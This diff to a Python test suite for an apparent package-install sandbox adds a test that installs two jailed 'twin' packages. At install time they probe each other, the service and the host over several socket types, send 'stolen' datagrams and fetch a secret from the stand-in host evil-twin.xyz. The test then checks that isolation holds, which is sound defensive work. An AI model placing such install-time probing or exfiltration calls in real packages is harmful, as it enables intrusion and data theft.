@@ -1,6 +1,8 @@
 """A package reaches nothing but a read-only view of the index, and every attempt is refused at once
 and reported."""
 
+import json
+import os
 import re
 import socket
 from contextlib import suppress
@@ -13,6 +15,7 @@ from hostile import (
     PROBES,
     add_probe,
     assert_nothing_is_left,
+    descendants,
     family_of,
     findings,
     in_one_jail,
@@ -567,3 +570,166 @@ def test_the_denylist_holds_for_what_is_pulled_in_however_it_is_spelled(
             [report["reason"], *report["coverage"]["notes"]]
         )
     nothing_is_left(snakehook)
+
+
+# Two of them are built side by side, each with the index and the decoy internet of its own run.
+# Each listens, and tries whatever is the other's, the service's or the machine's when it is told.
+TWIN = """
+import errno, http.client, json, os, socket, sys, time, urllib.request
+OWN, OTHER, HOSTS, PORTS, DEADLINE = "@OWN@", "@OTHER@", @HOSTS@, @PORTS@, time.monotonic() + 40
+NEAR = ("127.0.0.1", "::1", "10.0.2.15")
+def until(path):
+    while not os.path.exists(path) and time.monotonic() < DEADLINE:
+        time.sleep(0.02)
+def attempt(work):
+    try:
+        return work()
+    except OSError as error:
+        return errno.errorcode.get(error.errno, type(error).__name__)
+def local(name):
+    held = socket.socket(socket.AF_UNIX)
+    held.connect(name)
+def reach(host, port):
+    with socket.create_connection((host, port), timeout=10) as sock:
+        if host in NEAR:
+            return "open"
+        sock.sendall(b"GET /healthz HTTP/1.0\\r\\n\\r\\n")
+        return sock.recv(4096).decode()
+def index_says(project):
+    connection = http.client.HTTPConnection("127.0.0.1", 3141, timeout=10)
+    connection.request("GET", f"/simple/{project}/")
+    return connection.getresponse().status
+def world(name):
+    with urllib.request.urlopen(f"http://{name}.evil-twin.xyz/secret", timeout=10) as answer:
+        return answer.read().decode()
+if not os.path.exists("/tmp/ready"):
+    port, other = PORTS[OWN], PORTS[OTHER]
+    streams = socket.create_server(("0.0.0.0", port))
+    sixes = socket.create_server(("::", port), family=socket.AF_INET6)
+    named = socket.socket(socket.AF_UNIX)
+    named.bind("\\0twin-" + OWN)
+    named.listen()
+    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    datagrams.bind(("0.0.0.0", port))
+    open("/tmp/ready", "w").close()
+    until("/tmp/go")
+    got = {f"{host} {name}": attempt(lambda: reach(host, number)) for host in HOSTS
+           for name, number in PORTS.items()}
+    got |= {name: attempt(lambda: local(name)) for name in ("\\0twin-" + OTHER, "\\0machine")}
+    far = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for host in HOSTS:
+        for number in PORTS.values():
+            attempt(lambda: far.sendto(b"stolen", (host, number)))
+    got["index"] = [index_says("asked-by-" + OWN), index_says("twin-" + OWN)]
+    got["same"] = socket.gethostbyname("same.evil-twin.xyz")
+    got["world"] = world(OWN)
+    with open("/tmp/tried", "w") as file:
+        file.write(json.dumps(got))
+    until("/tmp/end")
+    arrived = []
+    own = {sock: sock.type for sock in (streams, sixes, named, datagrams)}
+    for sock, kind in own.items():
+        sock.setblocking(False)
+        try:
+            while True:
+                what = sock.accept()[1] if kind == socket.SOCK_STREAM else sock.recv(9).decode()
+                arrived.append(repr(what))
+        except BlockingIOError:
+            pass
+    with open("/tmp/arrived", "w") as file:
+        file.write(json.dumps(arrived))
+    until("/tmp/left")
+"""
+
+
+def jailed_roots() -> dict[str, Path]:
+    """The root folder of each jail that is open now, by the name of its host."""
+    roots = {}
+    for process in descendants():
+        root = Path(f"/proc/{process.pid}/root")
+        if process.is_jailed:
+            with suppress(OSError):
+                roots[(root / "etc/hostname").read_text()] = root
+    return roots
+
+
+def has_each(name: str) -> bool:
+    """Whether two jails have this file in /tmp."""
+    with suppress(OSError):
+        return sum((root / "tmp" / name).exists() for root in jailed_roots().values()) == 2
+    return False
+
+
+def give_each(name: str) -> None:
+    for root in jailed_roots().values():
+        (root / "tmp" / name).touch()
+
+
+def texts(name: str) -> list[Any]:
+    return [json.loads((root / "tmp" / name).read_text()) for root in jailed_roots().values()]
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="looks into the jails")
+def test_there_is_no_way_to_another_run_the_service_or_the_machine(
+    serve: Serve, index: Index
+) -> None:
+    """Each of two runs has addresses, ports, names, certificates and an index for itself alone."""
+    with (
+        socket.create_server(("", 0)) as streams,
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
+        socket.socket(socket.AF_UNIX) as named,
+        serve(MAX_CONCURRENCY=2, RUN_TIMEOUT_SEC=60) as service,
+    ):
+        port = streams.getsockname()[1]
+        datagrams.bind(("", port))
+        named.bind("\0machine")
+        named.listen()
+        index_port = int(index.origin.rpartition(":")[2])
+        ports = {"left": 41001, "right": 41002, "service": service.port}
+        ports |= {"machine": port, "real index": index_port}
+        own = {str(info[4][0]) for info in socket.getaddrinfo(socket.gethostname(), port)}
+        hosts = ["127.0.0.1", "::1", "10.0.2.15", *sorted(own - {"127.0.0.1", "127.0.1.1", "::1"})]
+        runs = {}
+        for name, other in (("left", "right"), ("right", "left")):
+            source = TWIN.replace("@OWN@", name).replace("@OTHER@", other)
+            source = source.replace("@HOSTS@", repr(hosts)).replace("@PORTS@", repr(ports))
+            index.add_backend_sdist(f"twin-{name}", "1.0", source, {f"twin_{name}.py": ""})
+            runs[name] = service.accept(f"twin-{name}", mode="install")
+        wait_for(lambda: has_each("ready"), 40, every_sec=0.1)
+        give_each("go")
+        wait_for(lambda: has_each("tried"), 40, every_sec=0.1)
+        tried = texts("tried")
+        give_each("end")
+        wait_for(lambda: has_each("arrived"), 40, every_sec=0.1)
+        arrived = texts("arrived")
+        give_each("left")
+        reports = {name: service.finished(run, 60) for name, run in runs.items()}
+        for server in (streams, named):
+            server.setblocking(False)
+            with pytest.raises(BlockingIOError):
+                server.accept()
+        datagrams.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            datagrams.recv(9)
+    for got in tried:
+        for near in ("127.0.0.1", "::1", "10.0.2.15"):
+            # Its own port is open here, and neither the other's, the service's nor the machine's.
+            answers = sorted(got[f"{near} {what}"] for what in ports)
+            assert answers == ["ECONNREFUSED"] * (len(ports) - 1) + ["open"]
+        far = [got[what] for what in got if what.partition(" ")[0] in hosts[3:]]
+        assert all("Server: nginx" in answer for answer in far), far
+        assert got["\0machine"] == "ECONNREFUSED"
+        assert [got[name] for name in got if name.startswith("\0twin-")] == ["ECONNREFUSED"]
+        assert got["index"][1] == 200
+    assert tried[0]["same"] != tried[1]["same"]
+    assert tried[0]["world"] != tried[1]["world"]
+    # What each sent to its own ports is all that came to them.
+    assert [len(what) for what in arrived] == [5, 5], arrived
+    for name, other in (("left", "right"), ("right", "left")):
+        report = reports[name]
+        assert report["outcome"] == "ok", report["reason"]
+        urls = [request["url"] for request in report["requests"]]
+        assert f"http://{name}.evil-twin.xyz/secret" in urls
+        said = json.dumps(report)
+        assert f"{other}.evil-twin.xyz" not in said
+        assert f"asked-by-{other}" not in said
